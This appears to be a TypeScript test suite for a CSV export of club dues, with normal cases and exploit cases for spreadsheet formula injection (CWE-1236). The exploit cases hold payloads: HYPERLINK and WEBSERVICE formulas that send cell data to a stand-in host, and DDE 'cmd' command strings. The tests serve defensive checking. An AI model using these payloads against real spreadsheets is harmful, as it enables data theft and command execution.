import { defineTests, type Harm, type Subject } from 'fathom/testing';

/** The rows of a table in CSV, each as its cells; undefined where the text is none. */
const rowsOf = (table: unknown): readonly (readonly string[])[] | undefined => {
  if (typeof table !== 'string') return undefined;
  const rows: string[][] = [[]];
  let rest = table;
  while (rest !== '') {
    const cell = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|\n|\r(?!\n)|$)/.exec(rest);
    if (cell === null || cell[0] === '') return undefined;
    rows.at(-1)?.push(cell[1]?.replaceAll('""', '"') ?? cell[2] ?? '');
    rest = rest.slice(cell[0].length);
    if (cell[3] === ',' && rest === '') rows.at(-1)?.push('');
    if (cell[3] !== ',' && rest !== '') rows.push([]);
  }
  return rows;
};

/** Exports a row; harm where a cell begins like a formula and holds the attacker's word. */
const open = async (
  { subject, harm }: { readonly subject: Subject; readonly harm: Harm },
  { member, remark, word, start }: { readonly member: string; readonly remark: string; readonly word: string; readonly start: RegExp },
): Promise<void> => {
  const ended = await subject.call('dues_row', member, remark, '12');
  const rows = ended.ended === 'answered' ? rowsOf(ended.value) : undefined;
  const formula = rows?.flat().find((cell) => start.test(cell) && cell.includes(word));
  if (formula !== undefined) harm('The spreadsheet program computes what a member typed.', JSON.stringify(formula));
};

export const tests = defineTests({
  cases: [
    {
      id: 'writes-a-row',
      kind: 'normal',
      proves: 'Texts come out as they were typed.',
      separates: ['stub', 'faulty'],
      run: async ({ subject, world, expect }) => {
        const cells = [
          `Anne-Marie ${world.secret('surname')}`,
          `2 boats @ 7 = 14; ${world.secret('note')} (a+b)`,
          String(world.integer(10, 99)),
        ];
        expect.equal(rowsOf(expect.value(await subject.call('dues_row', ...cells))), [cells]);
      },
    },
    {
      id: 'commas-and-quotes',
      kind: 'edge',
      proves: 'Commas, quotes and line ends stay in their cells, and an empty remark is an empty cell.',
      separates: ['stub', 'faulty-2'],
      run: async ({ subject, world, expect }) => {
        const word = world.secret('nickname');
        const row = expect.value(await subject.call('dues_row', `Lund, "${word}" Eva`, `new boat,\nsecond "wish"`, '40'));
        expect.equal(rowsOf(row), [[`Lund, "${word}" Eva`, `new boat,\nsecond "wish"`, '40']]);
        expect.equal(rowsOf(expect.value(await subject.call('dues_row', word, '', '7.5'))), [[word, '', '7.5']]);
      },
    },
    {
      id: 'amounts-with-a-sign',
      kind: 'edge',
      proves: 'Amounts with a sign stay numbers.',
      separates: ['stub', 'overblocking'],
      run: async ({ subject, world, expect }) => {
        const member = world.secret('payer');
        for (const amount of [`-${world.integer(1, 400)}`, '-0.75', '+3.50']) {
          expect.equal(rowsOf(expect.value(await subject.call('dues_row', member, 'paid back', amount))), [[member, 'paid back', amount]]);
        }
      },
    },
    {
      id: 'amounts-that-are-none',
      kind: 'error',
      proves: 'An amount that is no decimal number is an error.',
      separates: ['stub', 'faulty-3'],
      run: async ({ subject, world, expect }) => {
        const member = world.secret('debtor');
        for (const amount of ['', `1,${world.integer(100, 999)}`, '-', 'ten', '=1+1', '5 kg', '-5+2']) {
          expect.raised(await subject.call('dues_row', member, 'hello', amount), `the amount ${amount}`);
        }
      },
    },
  ],
  exploits: [
    {
      id: 'formula-as-a-name',
      cwe: 'CWE-1236',
      proves: 'The name of a member is no formula.',
      separates: ['insecure', 'insecure-4'],
      run: async ({ subject, world, harm }) => {
        const word = world.secret('link');
        const member = `=HYPERLINK("http://${word}.example/"&C1,"Details")`;
        await open({ subject, harm }, { member, remark: 'hello', word, start: /^=/ });
      },
    },
    {
      id: 'formulas-with-other-signs',
      cwe: 'CWE-1236',
      proves: 'A text that begins with a plus, a minus or an at sign is no formula either.',
      separates: ['insecure', 'insecure-2', 'insecure-5'],
      run: async ({ subject, world, harm }) => {
        const word = world.secret('command');
        for (const remark of [`@SUM(1,1)*cmd|'/C ${word}'!A0`, `+1+cmd|'/C ${word}'!A0`, `-2+3+cmd|'/C ${word}'!A0`])
          await open({ subject, harm }, { member: 'Kim', remark, word, start: /^[+@-]/ });
      },
    },
    {
      id: 'formulas-behind-a-tab',
      cwe: 'CWE-1236',
      proves: 'A tab or a carriage return before a formula does not hide it.',
      separates: ['insecure', 'insecure-2', 'insecure-3'],
      run: async ({ subject, world, harm }) => {
        const word = world.secret('hidden');
        for (const remark of [`\t=WEBSERVICE("http://${word}.example/"&A1)`, `\r=WEBSERVICE("http://${word}.example/"&A1)`])
          await open({ subject, harm }, { member: 'Kim', remark, word, start: /^[\t\r]+=/ });
      },
    },
  ],
});
